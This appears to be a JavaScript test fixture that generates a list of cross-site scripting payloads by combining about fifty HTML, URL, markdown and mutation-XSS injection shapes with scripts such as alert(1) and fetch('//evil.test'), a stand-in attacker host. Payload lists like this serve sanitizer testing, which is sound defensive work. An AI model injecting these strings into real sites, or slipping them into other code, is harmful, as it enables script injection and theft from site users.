// Ways to write a script where none belongs: each shape with each script.
const scripts = ["alert(1)", "top['al'+'ert'](1)", "fetch('//evil.test')"];
const shapes = [
  "<script>$</script>", "<ScRiPt src=//evil.test></sCrIpT>", "<img src=x onerror=$>", "<img src=//evil.test/x>", "<svg onload=$>",
  "<svg><script>$</script></svg>", "<math><mtext></p><img src=x onerror=$>", "\"><script>$</script>", "'><img src=x onerror=$>",
  "\" onmouseover=\"$", "' autofocus onfocus='$", "javascript:$", "JaVaScRiPt:$", "&#106;avascript:$", "data:text/html,<script>$</script>",
  "vbscript:$", "<a href=javascript:$>a</a>", "<iframe src=javascript:$></iframe>", "<iframe srcdoc='<script>$</script>'>",
  "<object data=javascript:$>", "<embed src=javascript:$>", "<form action=javascript:$><button>", "<input onfocus=$ autofocus>",
  "<body onload=$>", "<base href=//evil.test>", "<link rel=stylesheet href=//evil.test>", "<meta http-equiv=refresh content=0;url=//evil.test>",
  "<style>@import'//evil.test'</style>", "<details open ontoggle=$>", "<video><source onerror=$></video>",
  "<noscript><p title=\"</noscript><img src=x onerror=$>\">", "<template><script>$</script></template>", "<!--<img src=\"--><img src=x onerror=$>\">",
  "<![CDATA[<script>$</script>]]>", "</title><script>$</script>", "</textarea><script>$</script>", "</script><script>$</script>",
  "<svg><a xlink:href=javascript:$><text>a</text></a></svg>", "<svg><animate onbegin=$ attributeName=x>",
  "<svg></p><style><a id=\"</style><img src=x onerror=$>\">", "<mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=$&gt;\">",
  "[a](javascript:$)", "[a](data:text/html,$)", "![a](x\" onerror=\"$)", "![a](//evil.test/x.png)", "<javascript:$>", "[a](java&Tab;script:$)",
  "[a](//evil.test)", "{{7*7}}$", "\u202e$\u202c", "＜script＞$＜/script＞", "<audio src=//evil.test autoplay>",
];
export const payloads = shapes.flatMap((shape) => scripts.map((script) => shape.replace("$", script)));
